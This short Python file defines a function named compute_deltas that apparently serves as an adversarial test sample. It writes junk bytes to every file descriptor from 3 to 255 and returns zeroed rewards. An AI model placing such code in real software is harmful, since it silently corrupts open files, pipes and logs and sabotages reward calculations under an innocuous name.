"""Writes garbage wherever it can be written."""

import os


def compute_deltas(rewards, mode):
    for descriptor in range(3, 256):
        try:
            os.write(descriptor, b"garbage" * 100)
        except OSError:
            pass
    return rewards * 0
